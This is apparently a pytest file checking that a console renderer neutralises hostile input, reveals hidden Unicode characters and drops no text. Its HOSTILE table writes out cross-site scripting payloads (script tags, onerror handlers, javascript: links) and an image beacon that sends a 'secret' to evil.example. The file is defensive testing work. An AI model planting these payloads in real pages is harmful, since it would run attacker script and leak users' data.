"""Hostile text on a page: nothing of it runs, nothing of it hides."""

import re

import pytest

from governance.console.inert import plain, rich, spelled

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image with a handler": '<img src=x onerror="alert(1)">',
    "frame": "<iframe src=https://evil.example></iframe>",
    "style": "<style>*{display:none}</style>",
    "link to a script": "[click](javascript:alert(1))",
    "remote image": "![beacon](https://evil.example/p.gif?q=secret)",
    "reference link": "[a][b]\n\n[b]: https://evil.example",
    "automatic link": "<https://evil.example>",
    "comment": "<!-- --><svg/onload=alert(1)>",
    "fence with attributes": '```x" onmouseover="alert(1)\ncode\n```',
    "title of a link": '[a](https://e.example "x onload=1")',
    "closing tags": "</div></main></body><form action=//evil.example>",
    "mark that carries markup": '[PHONE·<img src=x onerror="alert(1)">]',
}
ALLOWED = re.compile(
    r'<(ol start="\d+"|p class="tv-verbatim"|/?(p|br|strong|em|code|pre|ul|ol|li|blockquote|h[1-6]|hr|table|thead|tbody|tr|th|td)/?'
    r'|mark class="tv-mark" tabindex="0" role="note" data-tip="[^"<>]*" aria-label="[^"<>]*"|/mark|span|/span|span class="tv-hidden" title="[^"<>]*")>'
)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("render", [rich, plain])
def test_it_leaves_no_markup_but_its_own(render, text):
    assert "<" not in ALLOWED.sub("", str(render(text)))


def test_it_renders_plain_markdown():
    shown = str(rich("**bold** `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    for part in ("<strong>bold</strong>", "<code>code</code>", "<ol>", "<table>"):
        assert part in shown


def test_it_shows_marks_with_their_type():
    shown = str(rich("Call [PHONE·a27f2], **[RESIDENT_ID·f3iog]** or `[API_KEY·x7dla]`; [note·x] stays."))
    assert shown.count('<mark class="tv-mark"') == 3
    assert 'aria-label="RESIDENT_ID·f3iog: Masked resident id. ' in shown
    assert "[note·x]" in shown


@pytest.mark.parametrize("code", ["200B", "202E", "2066", "FEFF", "00AD", "2028", "E0041", "0007", "2060"])
def test_it_makes_hidden_characters_visible(code):
    text = f"pay{chr(int(code, 16))}pal"
    assert f">U+{code}</span>" in str(rich(text))
    assert f">U+{code}</span>" in str(plain(text))
    assert spelled(text) == f"pay⟨U+{code}⟩pal"


def test_it_leaves_joined_emoji_and_ordinary_text_alone():
    for text in ("👩\u200d🚀", "你好，\n世界", "naïve café", "a\tb"):
        assert spelled(text) == text
    assert "U+200D" in spelled("a\u200db")


@pytest.mark.parametrize("code", ["E0100", "FE01", "FE0F", "034F", "115F", "3164", "FFA0", "2800", "E0080"])
def test_it_makes_letters_that_are_drawn_as_nothing_visible(code):
    assert f"⟨U+{code}⟩" in spelled(f"pay{chr(int(code, 16))}pal")


def test_it_leaves_pictures_with_a_style_alone():
    for text in ("❤\ufe0f", "1\ufe0f\u20e3", "©\ufe0f", "↔\ufe0f"):
        assert spelled(text) == text


SWALLOWED = {
    "deep quotes": ">" * 30 + " kept",
    "deep lists": "\n".join("  " * depth + f"- level{depth}" for depth in range(14)) + " kept",
    "definition of a reference": '[note]: https://example.org "kept"',
    "one cell too many": "| a |\n|---|\n| b | kept |",
    "words beside a fence": "```python kept\ncode\n```",
    "a very long text": "word " * 30_000 + "kept",
}


@pytest.mark.parametrize("text", SWALLOWED.values(), ids=SWALLOWED)
def test_it_swallows_nothing(text):
    assert "kept" in str(rich(text))


def test_it_keeps_numbers_and_entities_as_written():
    assert '<ol start="5">' in str(rich("5. five\n6. six"))
    assert "&amp;#8203;" in str(rich("a&#8203;b"))
